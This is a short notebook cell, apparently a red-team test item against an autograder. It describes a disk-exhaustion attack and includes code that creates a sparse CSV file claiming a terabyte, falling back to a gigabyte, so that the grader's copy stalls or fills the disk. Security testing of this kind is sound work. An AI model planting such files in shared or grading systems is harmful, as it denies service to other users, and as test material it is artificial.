# ---
# class: disk exhaustion
# tries: a file that says it has a terabyte, beside the notebook, for the grader to copy
# success: a stalled class, or a full disk
# ---

# %% solution="total"
with open("redteam-@NAME@.csv", "wb") as file:
    try:
        file.truncate(2**40)
    except OSError:
        file.truncate(2**30)
